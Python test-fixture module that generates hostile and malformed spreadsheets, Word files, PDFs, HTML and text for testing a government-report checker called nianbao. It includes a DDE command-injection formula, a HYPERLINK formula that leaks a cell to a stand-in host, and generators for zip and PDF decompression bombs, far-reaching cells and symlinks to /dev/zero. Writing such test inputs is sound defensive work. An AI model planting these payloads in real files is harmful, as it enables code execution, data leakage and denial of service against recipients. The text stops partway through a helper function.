"""Broken and hostile inputs, generated (no bombs are checked in): what offices and web pages send.

Each maker takes a good filled template and a folder, writes one file and returns it. ``CASES``
says, for each, what nianbao must answer: the file fails with a reason containing ``reason``, or
it is checked (``reason`` None) with the finding ``rule`` where one is expected. The test suite
and ``benchmarks/hostile.py`` both use them.
"""

from __future__ import annotations

import os
import re
import shutil
import struct
import subprocess
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import NamedTuple

from openpyxl import load_workbook

from nianbao.layout import form_layout
from nianbao.spec import load_spec

SPEC = load_spec("2021")
LAYOUT = form_layout(SPEC)
NEW_NATURAL = LAYOUT.inputs["t3.new.natural"]
YEAR = LAYOUT.inputs["meta.year"]
INJECTION = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")'


def _part(book: Path, sheet: str) -> str:
    """The zip member that holds ``sheet``."""
    with zipfile.ZipFile(book) as z:
        workbook, rels = z.read("xl/workbook.xml").decode(), z.read("xl/_rels/workbook.xml.rels").decode()
    rid = re.search(rf'<sheet name="{re.escape(sheet)}" sheetId="\d+" r:id="(rId\d+)"', workbook).group(1)
    return "xl/" + re.search(rf'Id="{rid}"[^>]*Target="([^"]+)"', rels).group(1).lstrip("/").removeprefix("xl/")


def rewrite(src: Path, dest: Path, edits: dict[str, Callable[[bytes], bytes] | None], extra: dict[str, bytes] | None = None) -> Path:
    """Copy a zip package, changing members (None drops one) and adding ``extra`` ones."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename in edits and edits[info.filename] is None:
                continue
            data = zin.read(info)
            zout.writestr(info.filename, edits[info.filename](data) if info.filename in edits else data)
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return dest


def _set_cell_xml(address: str, xml: str) -> Callable[[bytes], bytes]:
    """Replace one cell's XML element."""
    def edit(data: bytes) -> bytes:
        new, n = re.subn(rf'<c r="{address}"[^>]*?(?:/>|>.*?</c>)'.encode(), xml.encode(), data, count=1, flags=re.S)
        assert n == 1, address
        return new
    return edit


def _with_cells(good: Path, dest: Path, cells: dict) -> Path:
    """The good workbook with input cells set by openpyxl (text stays text)."""
    wb = load_workbook(good)
    for key, value in cells.items():
        cell = LAYOUT.inputs[key]
        target = wb[cell.sheet][cell.address]
        target.value = value
        if isinstance(value, str):
            target.data_type = "s"
    wb.save(dest)
    return dest


# --- metadata, names, merged cells ------------------------------------------------------------

def _meta(value: str):
    def make(good: Path, folder: Path) -> Path:
        wb = load_workbook(good)
        meta = wb["_nianbao"]
        row = next(r for r in meta.iter_rows() if r[0].value == "template_version")
        row[1].value = value
        out = folder / f"version-{re.sub(r'[^a-z0-9]', '', value)}.xlsx"
        wb.save(out)
        return out
    return make


def single_quoted_names(good: Path, folder: Path) -> Path:
    return rewrite(good, folder / "single-quotes.xlsx",
                   {"xl/workbook.xml": lambda d: re.sub(rb'<definedName name="([^"]+)"', rb"<definedName name='\1'", d)})


def merged_over_finding(good: Path, folder: Path) -> Path:
    """A user merged the cell holding a finding into its left neighbour."""
    wb = load_workbook(good)
    ws = wb[NEW_NATURAL.sheet]
    ws[NEW_NATURAL.address].value = None
    ws.merge_cells(start_row=NEW_NATURAL.row + 1, start_column=NEW_NATURAL.col, end_row=NEW_NATURAL.row + 1, end_column=NEW_NATURAL.col + 1)
    out = folder / "merged.xlsx"
    wb.save(out)
    return out


# --- values no report holds -------------------------------------------------------------------

def digits(n: int):
    def make(good: Path, folder: Path) -> Path:
        return _with_cells(good, folder / f"digits-{n}.xlsx", {"t3.new.natural": "1" * n})
    return make


def float_cell(key: str, text: str):
    """A number cell whose stored value is ``text`` (NaN, INF, 1e300): Excel never writes these,
    other programs do."""
    cell = LAYOUT.inputs[key]

    def make(good: Path, folder: Path) -> Path:
        name = f"{key.split('.')[-1]}-{text.lower().replace('+', '')}.xlsx"
        return rewrite(good, folder / name, {_part(good, cell.sheet): _set_cell_xml(cell.address, f'<c r="{cell.address}" t="n"><v>{text}</v></c>')})
    return make


def cached_error(good: Path, folder: Path) -> Path:
    cell = NEW_NATURAL
    xml = f'<c r="{cell.address}" t="e"><f>#REF!+1</f><v>#REF!</v></c>'
    return rewrite(good, folder / "cached-ref.xlsx", {_part(good, cell.sheet): _set_cell_xml(cell.address, xml)})


def injected_count(good: Path, folder: Path) -> Path:
    return _with_cells(good, folder / "injected.xlsx", {"t3.new.natural": INJECTION})


def injected_office(good: Path, folder: Path) -> Path:
    return _with_cells(good, folder / "office.xlsx", {"meta.office": HYPERLINK, "t3.new.natural": "十五"})


# --- damaged packages ---------------------------------------------------------------------------

def bad_crc(good: Path, folder: Path) -> Path:
    """One byte of a sheet's compressed data changed: the checksum no longer matches."""
    out = folder / "bad-crc.xlsx"
    data = bytearray(good.read_bytes())
    with zipfile.ZipFile(good) as z:
        info = z.getinfo(_part(good, NEW_NATURAL.sheet))
    name_len, extra_len = struct.unpack("<HH", data[info.header_offset + 26: info.header_offset + 30])
    start = info.header_offset + 30 + name_len + extra_len
    data[start + info.compress_size // 2] ^= 0x55
    out.write_bytes(bytes(data))
    return out


def no_content_types(good: Path, folder: Path) -> Path:
    return rewrite(good, folder / "no-content-types.xlsx", {"[Content_Types].xml": None})


def no_styles(good: Path, folder: Path) -> Path:
    return rewrite(good, folder / "no-styles.xlsx", {"xl/styles.xml": None})


def truncated_sheet(good: Path, folder: Path) -> Path:
    return rewrite(good, folder / "truncated-sheet.xlsx", {_part(good, NEW_NATURAL.sheet): lambda d: d[: len(d) // 2]})


def truncated_file(good: Path, folder: Path) -> Path:
    out = folder / "truncated-file.xlsx"
    out.write_bytes(good.read_bytes()[: good.stat().st_size * 2 // 3])
    return out


# --- bombs --------------------------------------------------------------------------------------

def _deflated(size: int, head: bytes = b"", filler: bytes = b" ") -> tuple[bytes, int]:
    """A raw deflate stream of ``head`` and then ``filler`` up to ``size`` bytes, made in chunks."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = filler * ((1 << 20) // len(filler))
    parts, crc, done = [packer.compress(head)], zlib.crc32(head), len(head)
    while done < size:
        piece = chunk[: size - done]
        parts.append(packer.compress(piece))
        crc, done = zlib.crc32(piece, crc), done + len(piece)
    parts.append(packer.flush())
    return b"".join(parts), crc


def bomb(good: Path, dest: Path, member: str, size: int, declared: int | None = None) -> Path:
    """``good`` with ``member`` replaced by one that inflates to ``size`` bytes (XML text, then
    spaces). With ``declared``, its headers claim that smaller size (a lying bomb)."""
    with zipfile.ZipFile(good) as z:
        head = z.read(member)[:200] if member in z.namelist() else b"<?xml version='1.0'?>"
    stream, crc = _deflated(size, head)
    with zipfile.ZipFile(good) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename != member:
                zout.writestr(info, zin.read(info))
    # Append the bomb member by hand: zipfile cannot write a stream it did not deflate itself.
    data = bytearray(dest.read_bytes())
    eocd = data.rindex(b"PK\x05\x06")
    entries, cd_size, cd_offset = struct.unpack("<HII", data[eocd + 10: eocd + 20])
    central, tail = data[cd_offset: cd_offset + cd_size], data[eocd:]
    name = member.encode()
    claimed = declared if declared is not None else size
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(stream), claimed, len(name), 0) + name
    entry = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(stream), claimed, len(name), 0, 0, 0, 0, 0,
                        cd_offset) + name
    body = bytes(data[:cd_offset]) + local + stream
    central_dir = bytes(central) + entry
    tail = bytearray(tail)
    struct.pack_into("<HHII", tail, 8, entries + 1, entries + 1, len(central_dir), len(body))
    dest.write_bytes(body + central_dir + bytes(tail))
    return dest


def _bomb(member: str, size: int = 1 << 30, declared: int | None = None, suffix: str = "xlsx"):
    def make(good: Path, folder: Path) -> Path:
        source = good if suffix == "xlsx" else folder / "report.docx"
        if suffix == "docx":
            _docx(source)
        tag = re.sub(r"\W", "-", member.rsplit("/", 1)[-1])
        return bomb(source, folder / f"bomb-{tag}{'-lying' if declared else ''}.{suffix}", member, size, declared)
    return make


def _docx(path: Path) -> Path:
    import docx

    document = docx.Document()
    document.add_paragraph("示例县人民政府办公室2025年政府信息公开工作年度报告")
    document.save(path)
    return path


def million_rows(good: Path, folder: Path) -> Path:
    """A sheet of 1,000,000 rows (about 47 MB of XML, 5 MB zipped) in the 说明 sheet."""
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (i, i) for i in range(1, 1_000_001))
    xml = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
           + rows + b"</sheetData></worksheet>")
    return rewrite(good, folder / "million-rows.xlsx", {_part(good, "说明"): lambda _: xml})


# The sheet the reader's cases put their cells in: 表三 is read (and given to python-calamine);
# 说明 is never read, so what it holds costs the check nothing (far-cell-unread-sheet).
READ = "表三"


def far_cell_in(sheet: str, name: str):
    """One cell at XFD1048576 in ``sheet``: the sheet spans 17 billion cells. In 表三 the file is
    refused; in 说明, a sheet the reader never reads, the report is checked (python-calamine is given
    the workbook without that sheet) and the annotated copy, which keeps every sheet, is refused."""
    def make(good: Path, folder: Path) -> Path:
        return rewrite(good, folder / f"{name}.xlsx", {
            _part(good, sheet): lambda d: d.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')})
    return make


def many_sheets(n: int = 10_000):
    def make(good: Path, folder: Path) -> Path:
        sheets = "".join(f'<sheet name="x{i}" sheetId="{1000 + i}" r:id="rIdX{i}"/>' for i in range(n))
        rels = "".join(f'<Relationship Id="rIdX{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
                       f'Target="worksheets/x{i}.xml"/>' for i in range(n))
        empty = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>'
        return rewrite(good, folder / f"sheets-{n}.xlsx", {
            "xl/workbook.xml": lambda d: d.replace(b"</sheets>", sheets.encode() + b"</sheets>"),
            "xl/_rels/workbook.xml.rels": lambda d: d.replace(b"</Relationships>", rels.encode() + b"</Relationships>"),
        }, {f"xl/worksheets/x{i}.xml": empty for i in range(n)})
    return make


# --- sheets read the way python-calamine reads them ------------------------------------------------

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_WORKSHEET = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"


def _sheet(rows: bytes) -> bytes:
    return b'<?xml version="1.0"?><worksheet xmlns="' + _MAIN.encode() + b'"><sheetData>' + rows + b"</sheetData></worksheet>"


FAR = _sheet(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


def _with_sheet(good: Path, dest: Path, tags: str, xml: bytes, rid: str = "rIdH1") -> Path:
    """``good`` with one more worksheet part (``xml``, relationship ``rid``) and ``tags`` added to
    workbook.xml's <sheets> (the <sheet> elements naming it, or anything else)."""
    rel = f'<Relationship Id="{rid}" Type="{_WORKSHEET}" Target="worksheets/hostile.xml"/>'
    return rewrite(good, dest, {
        "xl/workbook.xml": lambda d: d.replace(b"</sheets>", tags.encode() + b"</sheets>"),
        "xl/_rels/workbook.xml.rels": lambda d: d.replace(b"</Relationships>", rel.encode() + b"</Relationships>"),
    }, {"xl/worksheets/hostile.xml": xml})


def far_cell_quoted(good: Path, folder: Path) -> Path:
    """XFD1048576 with its row and cell references in single quotes, as XML allows."""
    return rewrite(good, folder / "far-cell-quoted.xlsx", {
        _part(good, READ): lambda d: d.replace(b"</sheetData>", b"<row r='1048576'><c r='XFD1048576'><v>1</v></c></row></sheetData>")})


def far_cell_as(name: str, cells: bytes, end: bytes = b"</sheetData>"):
    """A cell reaching XFD1048576 written in a way python-calamine reads and a plain pattern would
    not: with a namespace prefix, in lower case, after an attribute whose value holds ' r="A1"', with
    its r given twice (calamine keeps the last), or before a sheetData end tag with a space in it."""
    def make(good: Path, folder: Path) -> Path:
        row = b'<row r="50">' + cells + b"</row>"  # the row says 50: only the cell's own r reaches far
        return rewrite(good, folder / f"far-cell-{name}.xlsx", {_part(good, READ): lambda d: d.replace(b"</sheetData>", row + end)})
    return make


_X = b'xmlns:x="' + _MAIN.encode() + b'"'


def rows_without_r(n: int):
    """``n`` rows with no r attribute (each row follows the one before): 26 MB of XML, under the part limit."""
    def make(good: Path, folder: Path) -> Path:
        return rewrite(good, folder / f"rows-without-r-{n}.xlsx", {_part(good, READ): lambda _: _sheet(b"<row><c><v>1</v></c></row>" * n)})
    return make


def cells_without_r(n: int):
    """One row of ``n`` cells with no r attribute (each in the column after the one before)."""
    def make(good: Path, folder: Path) -> Path:
        row = b"<row>" + b"<c><v>1</v></c>" * n + b"</row>"
        return rewrite(good, folder / f"cells-without-r-{n}.xlsx", {_part(good, READ): lambda _: _sheet(row)})
    return make


def part_named_twice(good: Path, folder: Path) -> Path:
    """Two zip members named as 表三's part, the first reaching XFD1048576: which one a reader takes
    is its own choice (Python's zipfile and calamine's zip crate take the last today)."""
    dest, part = folder / "part-named-twice.xlsx", _part(good, READ)
    with zipfile.ZipFile(good) as z:
        original = z.read(part)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate it is told to write
        rewrite(good, dest, {part: lambda _: FAR}, {part: original})
    return dest


def sheet_named_twice(good: Path, folder: Path) -> Path:
    """workbook.xml lists 说明 a second time, for a part reaching XFD1048576."""
    return _with_sheet(good, folder / "sheet-named-twice.xlsx", '<sheet name="说明" sheetId="90" r:id="rIdH1"/>', FAR)


def sheet_behind_comment(good: Path, folder: Path) -> Path:
    """A sheet the reader reads (检查结果) whose name a commented-out <sheet> gives to a harmless part:
    calamine never sees the comment."""
    tags = '<sheet name="检查结果" sheetId="90" r:id="rIdH1"/><!-- <sheet name="检查结果" sheetId="91" r:id="rId1"/> -->'
    return _with_sheet(good, folder / "sheet-behind-comment.xlsx", tags, FAR)


def the_word_sheetdata(good: Path, folder: Path) -> Path:
    """A sheet named sheetData, holding the text sheetData: the word in workbook.xml and the shared
    strings is no sheetData element, so neither part is taken for a sheet (and left out)."""
    wb = load_workbook(good)
    wb.create_sheet("sheetData")["A1"] = "sheetData"
    wb.save(folder / "word-sheetdata.xlsx")
    return folder / "word-sheetdata.xlsx"


def sheet_named_gt(good: Path, folder: Path) -> Path:
    """A valid sheet named a>b (a raw > is allowed in an attribute value)."""
    small = _sheet(b'<row r="1"><c r="A1"><v>1</v></c></row>')
    return _with_sheet(good, folder / "sheet-a-gt-b.xlsx", '<sheet name="a>b" sheetId="90" r:id="rIdH1"/>', small)


def hidden_copy(good: Path, folder: Path) -> Path:
    """表三's defined names redirected into a veryHidden copy of it full of zeros, the visible 表三 wrong."""
    wb = load_workbook(good)
    copy = wb.copy_worksheet(wb[NEW_NATURAL.sheet])
    copy.title, copy.sheet_state = "表三副本", "veryHidden"
    for key, cell in LAYOUT.inputs.items():
        if cell.sheet == NEW_NATURAL.sheet:
            copy[cell.address].value = 0
    wb[NEW_NATURAL.sheet][NEW_NATURAL.address].value = 999_999
    for name in list(wb.defined_names):
        if wb.defined_names[name].attr_text.startswith(f"'{NEW_NATURAL.sheet}'!"):
            wb.defined_names[name].attr_text = wb.defined_names[name].attr_text.replace(f"'{NEW_NATURAL.sheet}'!", "'表三副本'!")
    out = folder / "hidden-copy.xlsx"
    wb.save(out)
    return out


def _cell_xml(name: str, xml: str):
    def make(good: Path, folder: Path) -> Path:
        return rewrite(good, folder / name, {_part(good, NEW_NATURAL.sheet): _set_cell_xml(NEW_NATURAL.address, xml.format(a=NEW_NATURAL.address))})
    return make


def dde_formula(good: Path, folder: Path) -> Path:
    """A live DDE formula in an input cell (its cached 0 would pass), another in a cell of 说明,
    and the workbook set to recalculate everything when opened."""
    dde = "<f>cmd|' /C calc'!A0</f><v>0</v>"
    calc = b'<calcPr calcId="124519" fullCalcOnLoad="1"/>'
    return rewrite(good, folder / "dde.xlsx", {
        _part(good, NEW_NATURAL.sheet): _set_cell_xml(NEW_NATURAL.address, f'<c r="{NEW_NATURAL.address}">{dde}</c>'),
        _part(good, "说明"): lambda d: d.replace(b"</sheetData>", f'<row r="1000"><c r="Z1000">{dde}</c></row></sheetData>'.encode()),
        "xl/workbook.xml": lambda d: re.sub(rb"<calcPr\b[^>]*/>", calc, d) if b"<calcPr" in d else d.replace(b"</workbook>", calc + b"</workbook>"),
    })


# --- what only the annotated copy reads: merges, links, notes, formats ------------------------------

FAR_RANGE = "K40:XFD1048576"  # 17 billion cells from the row under 表三


def _in_table_sheet(good: Path, dest: Path, edit: Callable[[bytes], bytes]) -> Path:
    return rewrite(good, dest, {_part(good, NEW_NATURAL.sheet): edit})


def merge_far(good: Path, folder: Path) -> Path:
    """One more merged range of 表三, over K40:XFD1048576."""
    return _in_table_sheet(good, folder / "merge-far.xlsx", lambda d: re.sub(rb"(<mergeCells\b[^>]*>)", rb'\1<mergeCell ref="' + FAR_RANGE.encode()
                                                                              + b'"/>', d, count=1))


def hyperlink_far(good: Path, folder: Path) -> Path:
    """A link over K40:XFD1048576 of 表三."""
    link = f'<hyperlinks><hyperlink ref="{FAR_RANGE}" location="\'说明\'!A1" display="x"/></hyperlinks>'.encode()
    return _in_table_sheet(good, folder / "hyperlink-far.xlsx", lambda d: d.replace(b"<pageMargins", link + b"<pageMargins", 1))


def many_comments(n: int):
    """``n`` notes on 表三 (a comments part of about 14 MB for 200,000)."""
    def make(good: Path, folder: Path) -> Path:
        part = _part(good, NEW_NATURAL.sheet)
        rels = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
        body = b"".join(b'<comment ref="A%d" authorId="0"><text><t>x</t></text></comment>' % (i + 1) for i in range(n))
        comments = (b'<?xml version="1.0"?><comments xmlns="' + _MAIN.encode() + b'"><authors><author>x</author></authors><commentList>'
                    + body + b"</commentList></comments>")
        relation = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    b'<Relationship Id="rIdC1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments" '
                    b'Target="../comments9.xml"/></Relationships>')
        types = b'<Override PartName="/xl/comments9.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml"/>'
        return rewrite(good, folder / f"comments-{n}.xlsx", {"[Content_Types].xml": lambda d: d.replace(b"</Types>", types + b"</Types>")},
                       {rels: relation, "xl/comments9.xml": comments})
    return make


def many_formats(n: int):
    """``n`` cell formats (<xf>) in styles.xml (about 29 MB for 500,000, under the part limit)."""
    def make(good: Path, folder: Path) -> Path:
        xfs = b'<cellXfs count="%d">' % n + b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>' * n + b"</cellXfs>"
        styles = {"xl/styles.xml": lambda d: re.sub(rb"<cellXfs\b.*?</cellXfs>", xfs, d, count=1, flags=re.S)}
        return rewrite(good, folder / f"formats-{n}.xlsx", styles)
    return make


# --- file names ------------------------------------------------------------------------------------

def named(name: str | bytes, suffix: str = ".xlsx"):
    """The good workbook under a name of its own (bytes: not valid UTF-8)."""
    def make(good: Path, folder: Path) -> Path:
        stem = os.fsdecode(name) if isinstance(name, bytes) else name
        out = folder / f"{stem}{suffix}"
        shutil.copyfile(good, out)
        return out
    return make


# --- what else a folder of returns holds ------------------------------------------------------------

def fifo(good: Path, folder: Path) -> Path:
    """A named pipe called like a report: opening it would block forever."""
    out = folder / "fifo.txt"
    os.mkfifo(out)
    return out


def device_link(good: Path, folder: Path) -> Path:
    """A link to /dev/zero called like a report: reading it never ends."""
    out = folder / "zero.txt"
    out.symlink_to("/dev/zero")
    return out


def outside_link(good: Path, folder: Path) -> Path:
    """A link in the folder to a report outside it."""
    outside = folder.parent / f"outside-{folder.name}"
    outside.mkdir(exist_ok=True)
    shutil.copyfile(good, outside / "elsewhere.xlsx")
    out = folder / "outside-link.xlsx"
    out.symlink_to(outside / "elsewhere.xlsx")
    return out


def other_format(suffix: str):
    """A file of a format offices send that nianbao does not read (content: a workbook's bytes)."""
    def make(good: Path, folder: Path) -> Path:
        out = folder / f"other{suffix}"
        shutil.copyfile(good, out)
        return out
    return make


# --- published reports --------------------------------------------------------------------------

def nested_html(depth: int, closed: bool = True):
    def make(good: Path, folder: Path) -> Path:
        out = folder / f"nested-{depth}{'' if closed else '-open'}.html"
        opening, closing = "<table><tr><td>" * depth, "</td></tr></table>" * depth if closed else ""
        out.write_text(f"<html><body><p>示例县2025年政府信息公开工作年度报告</p>{opening}x{closing}</body></html>", encoding="utf-8")
        return out
    return make


def million_cells(good: Path, folder: Path) -> Path:
    """A 5 MB page of one table row with a million cells."""
    out = folder / "million-cells.html"
    out.write_text("<html><body><table><tr>" + "<td>1" * 1_000_000 + "</table></body></html>", encoding="utf-8")
    return out


def million_lines(good: Path, folder: Path) -> Path:
    out = folder / "million-lines.txt"
    out.write_text("示例县2025年政府信息公开工作年度报告\n" + "1\n" * 2_000_000, encoding="utf-8")
    return out


def huge_text(good: Path, folder: Path) -> Path:
    out = folder / "huge.txt"
    with out.open("wb") as fh:
        line = "一、本年新收政府信息公开申请数量 1 0 0 0 0 0 1\n".encode()
        for _ in range((100 << 20) // len(line) + 1):
            fh.write(line)
    return out


def big5_page(good: Path, folder: Path) -> Path:
    """A traditional-character page in Big5 that does not declare its charset."""
    out = folder / "big5.html"
    text = "<html><body><h1>臺北市萬華區公所2025年政府信息公開工作年度報告</h1><p>一、總體情況</p></body></html>"
    out.write_bytes(text.encode("big5"))
    return out


def injected_report(good: Path, folder: Path) -> Path:
    out = folder / "injected-report.txt"
    seed = Path(__file__).resolve().parents[1] / "rules" / "reports" / "jianxi-2019.txt"
    text = seed.read_text(encoding="utf-8")
    out.write_text(text.replace("一、总体情况\n", f"一、总体情况\n{HYPERLINK}\n", 1), encoding="utf-8")
    return out


def report_digits(good: Path, folder: Path) -> Path:
    """A published report printing a 5,000-digit number in a table cell (past Python's int() limit)."""
    out = folder / "report-digits.txt"
    seed = Path(__file__).resolve().parents[1] / "rules" / "reports" / "jianxi-2019.txt"
    out.write_text(seed.read_text(encoding="utf-8").replace("规范性文件\t0", "规范性文件\t" + "9" * 5000, 1), encoding="utf-8")
    return out


def run_together(good: Path, folder: Path) -> Path:
    """Every 表三 row label, 200 times over, each followed by 24 digits run together: the most
    splits the importer would ever try (each row is split at most once)."""
    from nianbao.spec import load_spec

    labels = [r.label for r in load_spec("2021").table("t3").rows] * 200
    out = folder / "run-together.txt"
    out.write_text("示例县2025年政府信息公开工作年度报告\n三、收到和处理政府信息公开申请情况\n"
                   + "\n".join(f"{label}{'1' * 24}" for label in labels), encoding="utf-8")
    return out


def _pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A PDF of ``objects`` (numbered from 1; 1 is the catalog), with its cross-reference table."""
    parts, offsets, size = [b"%PDF-1.4\n"], [], 9
    for n, obj in enumerate(objects, 1):
        offsets.append(size)
        parts.append(b"%d 0 obj\n" % n + obj + b"\nendobj\n")
        size += len(parts[-1])
    xref = size
    parts.append(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets))
    return b"".join(parts) + b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)


def encrypted_pdf(good: Path, folder: Path) -> Path:
    """A PDF with the standard security handler and an unknown user password."""
    out = folder / "encrypted.pdf"
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
               b"<< /Filter /Standard /V 1 /R 2 /O <" + b"11" * 32 + b"> /U <" + b"22" * 32 + b"> /P -4 >>"]
    out.write_bytes(_pdf(objects, b"/Encrypt 4 0 R /ID [<" + b"ab" * 16 + b"><" + b"ab" * 16 + b">] "))
    return out


def pdf_stream_bomb(good: Path, folder: Path) -> Path:
    """A one-page PDF whose content stream inflates to 1 GB (1 MB on disk)."""
    packer = zlib.compressobj(1)
    chunk = b" " * (1 << 20)
    stream = b"".join(packer.compress(chunk) for _ in range(1024)) + packer.flush()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
               b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream"]
    out = folder / "pdf-stream-bomb.pdf"
    out.write_bytes(_pdf(objects))
    return out


def pdf_pages(n: int):
    """A PDF of ``n`` empty pages (12 MB for 200,000)."""
    def make(good: Path, folder: Path) -> Path:
        kids = b" ".join(b"%d 0 R" % (i + 3) for i in range(n))
        objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n)]
        objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"] * n
        out = folder / f"pdf-pages-{n}.pdf"
        out.write_bytes(_pdf(objects))
        return out
    return make


def _pdf_page_of(content: bytes, extra: list[bytes] | None = None, resources: bytes = b"") -> bytes:
    """A one-page PDF drawing ``content`` (deflated), with ``extra`` objects numbered from 6."""
    stream = zlib.compress(content)
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                 b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> %s>> >>"
                 % resources, b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
                 b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", *(extra or [])])


def pdf_page_chars(good: Path, folder: Path) -> Path:
    """One page showing 1,000,000 characters (1 KB on disk)."""
    out = folder / "pdf-page-chars.pdf"
    out.write_bytes(_pdf_page_of(b"BT /F1 1 Tf 10 700 Td (" + b"a" * 1_000_000 + b") Tj ET"))
    return out


def pdf_form_drawn(good: Path, folder: Path) -> Path:
    """One page drawing a form of 1,000 characters 1,000 times."""
    form = b"BT /F1 1 Tf 10 700 Td (" + b"a" * 1000 + b") Tj ET"
    out = folder / "pdf-form-drawn.pdf"
    out.write_bytes(_pdf_page_of(b"/Fm1 Do\n" * 1000, [b"<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> "
                                                      b"/Length %d >>\nstream\n" % len(form) + form + b"\nendstream"],
                                 b"/XObject << /Fm1 6 0 R >> "))
    return out


def long_line(name: str, head: str, unit: str, size: int, tail: str = ""):
    """A report of one line (or paragraph, or table row) of ``size`` bytes of ``unit`` repeated."""
    def make(good: Path, folder: Path) -> Path:
        out = folder / name
        with out.open("w", encoding="utf-8") as fh:
            fh.write(head)
            fh.write(unit * (size // len(unit.encode())))
            fh.write(tail)
        return out
    return make


def html_attributes(n: int):
    def make(good: Path, folder: Path) -> Path:
        out = folder / f"html-attributes-{n}.html"
        out.write_text("<html><body><p " + " ".join(f"a{i}" for i in range(n)) + ">示例县2025年政府信息公开工作年度报告</p></body></html>",
                       encoding="utf-8")
        return out
    return make


def docx_grid_span(good: Path, folder: Path) -> Path:
    """A Word table cell spanning 2,000,000,000 grid columns."""
    import docx

    source = folder / "grid-span-source.docx"
    document = docx.Document()
    document.add_paragraph("示例县人民政府办公室2025年政府信息公开工作年度报告")
    document.add_table(rows=1, cols=2).cell(0, 0).text = "x"
    document.save(source)
    span = b'<w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>'
    out = rewrite(source, folder / "docx-grid-span.docx", {"word/document.xml": lambda d: re.sub(rb"<w:tcPr>.*?</w:tcPr>", span, d, count=1)})
    source.unlink()
    return out


_ALONE = """
import resource, sys, time
import nianbao

def peak():  # MiB; VmHWM starts afresh at exec, where ru_maxrss keeps the forking parent's peak
    try:
        return int(next(l for l in open("/proc/self/status") if l.startswith("VmHWM")).split()[1]) // 1024
    except OSError:
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024

start = time.monotonic()
result = nianbao.check(sys.argv[1])
copy = ""
if result.status != "failed":  # and its annotated copy, as a batch writes it
    import tempfile
    from pathlib import Path
    from nianbao.batch import _annotate_one

    with tempfile.TemporaryDirectory() as tmp:
        written = _annotate_one((Path(sys.argv[1]), result, Path(tmp, "copy.xlsx")))
        copy = "ok" if isinstance(written, Path) else written.reason
print(result.status, time.monotonic() - start, peak(), (result.reason or "").replace("|", "/"), copy.replace("|", "/"), sep="|")
"""


@dataclass(frozen=True)
class Alone:
    """One file checked in a fresh process, and its annotated copy written when it was checked: its
    status and reason, seconds, peak memory, and "ok" or why the copy was not written."""

    status: str
    seconds: float
    peak_mib: int
    reason: str
    copy: str


def check_alone(path: Path) -> Alone:
    run = subprocess.run([sys.executable, "-c", _ALONE, str(path)], capture_output=True, text=True, timeout=600)
    status, seconds, peak, reason, copy = run.stdout.strip().split("|")
    return Alone(status, float(seconds), int(peak), reason, copy)


def _tree_rss(pid: int) -> tuple[int, int]:
    """KiB resident in ``pid`` and every process below it, and the most ``pid`` alone has held (VmHWM), from /proc."""
    children: dict[int, list[int]] = {}
    rss: dict[int, int] = {}
    own = 0
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                status = (proc / "status").read_text()
            except OSError:
                continue
            fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
            children.setdefault(int(fields["PPid"]), []).append(int(proc.name))
